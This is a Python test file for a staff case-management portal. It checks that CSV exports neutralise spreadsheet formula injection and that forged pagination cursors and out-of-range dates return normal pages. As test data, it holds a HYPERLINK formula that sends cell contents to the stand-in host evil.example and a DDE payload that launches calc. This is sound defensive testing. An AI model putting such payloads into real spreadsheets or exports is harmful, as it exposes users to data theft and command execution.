"""The staff pages under crafted input (docs/security.md): export cells a spreadsheet would
run are quoted (finding 5); forged cursors and out-of-range dates never end in a server
error (finding 6)."""

import base64
import csv
import io
import json

import pytest

from cases import keyset
from cases.models import Case, State
from portal import queues
from tests import factories
from tests.portal.helpers import signed_in


def cursor(values):
    raw = json.dumps(values).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def test_the_export_quotes_cells_a_spreadsheet_would_run(client, street):
    factories.new_case(
        street,
        description='=HYPERLINK("http://evil.example/?"&A1,"点这里")',
        address="@SUM(1+1)",
    )
    factories.new_case(street, description="-2+3", address="+86 138")
    factories.new_case(street, description="路边有垃圾", address="虹梅路")
    signed_in(client, street, "dispatcher")
    response = client.get("/staff/cases/export.csv?sort=oldest")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = [(row[5], row[6]) for row in csv.reader(io.StringIO(body))][1:]
    assert rows == [
        ("'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?"&A1,"点这里")'),
        ("'+86 138", "'-2+3"),
        ("虹梅路", "路边有垃圾"),
    ]


def test_the_dashboard_export_quotes_a_name_a_spreadsheet_would_run(client, street):
    party = street.parties["rc-hangtian"]
    party.name = "=cmd|' /C calc'!A0"
    party.save()
    case = factories.new_case(street)
    factories.act(street, case, "dispatch", "dispatcher", lead_party=party)
    signed_in(client, street, "supervisor")
    body = client.get("/staff/dashboard/export.csv", {"by": "party"}).content.decode()
    names = [row[0] for row in csv.reader(io.StringIO(body.lstrip("\ufeff")))]
    assert "'=cmd|' /C calc'!A0" in names
    assert "=cmd|' /C calc'!A0" not in names


FORGED = {
    "a text for an id": cursor(["2026-11-20T09:00:00+08:00", "abc"]),
    "a year beyond UTC": cursor(["9999-12-31T23:59:59-12:00", 1]),
    "a year before UTC": cursor(["0001-01-01T00:00:00+14:00", 1]),
    "a moment without offset": cursor(["2026-11-20T09:00:00", 1]),
    "an id beyond bigint": cursor(["2026-11-20T09:00:00+08:00", 10**30]),
    "a list for an id": cursor(["2026-11-20T09:00:00+08:00", [1]]),
    "a number for a moment": cursor([5, 1]),
    "not base64": "!!!",
    "not json": "bm90IGpzb24",
}
PAGES = [
    "/staff/cases/",
    "/staff/cases/export.csv",
    "/staff/cases/map/",
    "/staff/cases/map/data/",
    "/staff/",
    "/staff/?tab=new",
    "/staff/?tab=to_verify",
    "/staff/?tab=supervised",
    "/staff/meetings/",
    "/staff/meetings/decisions/",
]


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("forged", FORGED, ids=str)
def test_a_forged_cursor_is_page_one(client, street, page, forged):
    factories.case_in(street, State.RESOLVED)
    signed_in(client, street, "supervisor")
    separator = "&" if "?" in page else "?"
    response = client.get(f"{page}{separator}after={FORGED[forged]}")
    assert response.status_code == 200


def test_a_forged_cursor_shows_the_first_page(client, street):
    first = factories.new_case(street)
    signed_in(client, street, "dispatcher")
    response = client.get("/staff/cases/", {"after": FORGED["a text for an id"]})
    assert [case.number for case in response.context["page"].items] == [first.number]


@pytest.mark.parametrize("name", ["filed_from", "filed_to"])
@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "1899-12-31", "2100-01-01"])
@pytest.mark.parametrize(
    "page", ["/staff/cases/", "/staff/cases/export.csv", "/staff/cases/map/data/"]
)
def test_a_date_out_of_range_is_refused_not_a_server_error(client, street, name, day, page):
    factories.new_case(street)
    signed_in(client, street, "dispatcher")
    response = client.get(page, {name: day})
    assert response.status_code == 200


def test_the_list_says_which_date_is_out_of_range(client, street):
    signed_in(client, street, "dispatcher")
    response = client.get("/staff/cases/", {"filed_to": "9999-12-31"}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.context["form"].errors["filed_to"] == [
        "Ensure this value is less than or equal to 2099-12-31."
    ]


def test_meetings_list_pages_past_meetings_after_a_forged_cursor(client, street):
    signed_in(client, street, "secretary")
    response = client.get("/staff/meetings/", {"after": FORGED["a year beyond UTC"]})
    assert response.status_code == 200


@pytest.mark.parametrize("forged", FORGED, ids=str)
def test_a_forged_cursor_decodes_to_nothing(forged):
    assert keyset.decode(Case, queues.NEWEST_FIRST, FORGED[forged]) is None


def test_a_cursor_we_made_decodes_to_its_values(street):
    case = factories.new_case(street)
    made = keyset.encode(queues.NEWEST_FIRST, case)
    assert keyset.decode(Case, queues.NEWEST_FIRST, made) == [case.created_at, case.pk]
